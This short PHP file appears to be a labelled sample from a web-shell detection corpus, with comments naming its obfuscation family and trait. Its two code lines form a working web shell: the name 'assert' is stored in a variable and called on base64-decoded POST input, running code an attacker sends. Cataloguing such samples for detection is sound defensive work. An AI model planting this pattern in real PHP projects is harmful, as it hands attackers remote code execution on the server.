<?php
// Family: obfuscation/var-function
// Style: dangerous function name stored in a plain variable
// Trait: the evaluator name sits in a string variable and is called with decoded request data
$checker = 'assert';
$checker(base64_decode($_POST['payload']));
